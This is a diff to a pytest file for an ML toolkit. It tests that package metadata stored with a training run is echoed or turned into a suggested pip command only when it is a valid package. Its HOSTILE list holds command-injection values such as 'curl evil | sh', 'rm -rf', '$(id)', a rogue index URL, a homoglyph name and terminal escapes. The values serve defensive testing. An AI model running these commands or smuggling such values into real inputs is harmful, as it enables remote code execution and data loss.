@@ -13,6 +13,7 @@ from conftest import Command
 from gptkit.errors import PluginError
 from gptkit.experiment import experiment_from_dict
 from gptkit.plugins import registry
+from gptkit.runs import find_run
 
 TOKENIZER = """
 import numpy as np
@@ -274,3 +275,68 @@ def test_a_run_goes_on_with_the_plugin_it_had_and_says_what_to_install_when_that
         assert refused.code == 3
         assert "no tokenizer is called 'upper'" in refused.err
         assert refused.err.endswith("The run had it from fancy 1.2: pip install fancy==1.2\n")
+
+
+HOSTILE = [
+    ("fancy; rm -rf x", "1.2"),
+    ("fancy", "1.2; curl evil | sh"),
+    ("fancy", "$(id)"),
+    ("fancy", "1.2\n\x1b[2J"),
+    ("fancy", "1.2\n"),
+    ("fancy", "1!2"),
+    ("fancy", "1.2 --pre"),
+    ("--index-url=http://evil", "1.2"),
+    ("https://evil/x.whl", "1.2"),
+    ("f\u0430ncy", "1.2"),
+    ("fancy[evil]", "1.2"),
+    ("f" * 300, "1.2"),
+    ("fancy", "9" * 300),
+    ("", ""),
+    (None, ["1.2"]),
+]
+
+
+def test_what_a_run_says_of_its_packages_is_shown_only_where_it_is_a_package(
+    tiny_experiment: Path, gptkit_command: Command
+) -> None:
+    """It goes to a terminal, and into a command that a person may paste."""
+    assert gptkit_command("train", tiny_experiment, "--stop-at", 1, "--quiet").code == 0
+    run = find_run("latest")
+    record, experiment = run.record(), run.experiment_file.read_text()
+    plugin = record["plugins"][0]
+    assert plugin["name"] == "char"
+    for distribution, version in HOSTILE:
+        plugin |= {"name": "char", "distribution": distribution, "version": version}
+        run.experiment_file.write_text(experiment)
+        run.write_record(record)
+        here = registry.provenance(registry.TOKENIZERS, "char").version
+        written = gptkit_command("generate", run.id, "-n", 3)
+        assert written.code == 0
+        said = f"'char' is of gptkit {here} here, but was of an unknown package in training: "
+        assert written.err.startswith(f"{said}the model may write worse.\n")
+        assert "pip" not in written.err
+        refused = gptkit_command("resume", run.id, "--require-exact")
+        assert f"char of an unknown package -> gptkit {here}" in refused.err
+        plugin["name"] = "upper"
+        run.experiment_file.write_text(experiment.replace('"char"', '"upper"'))
+        run.write_record(record)
+        refused = gptkit_command("generate", run.id)
+        assert refused.code == 3
+        assert refused.err.count("\n") == 1
+        assert refused.err.endswith("Another one comes with the package that brings it.\n")
+    plugin |= {"distribution": "Fancy_thing.2", "version": "1.2rc1.post2.dev3+local.1"}
+    run.write_record(record)
+    refused = gptkit_command("generate", run.id)
+    assert refused.err.endswith(": pip install Fancy_thing.2==1.2rc1.post2.dev3+local.1\n")
+
+
+@pytest.mark.parametrize("plugins", [None, 3, "char", {}, [3], ["x"], [{"name": "char"}], [[]]])
+def test_a_run_that_does_not_say_what_packages_it_had_writes_all_the_same(
+    plugins: object, tiny_experiment: Path, gptkit_command: Command
+) -> None:
+    assert gptkit_command("train", tiny_experiment, "--stop-at", 1, "--quiet").code == 0
+    run = find_run("latest")
+    run.write_record(run.record() | {"plugins": plugins})
+    written = gptkit_command("generate", run.id, "-n", 3)
+    assert written.code == 0
+    assert ("an unrecorded package in training" in written.err) == (plugins == {})
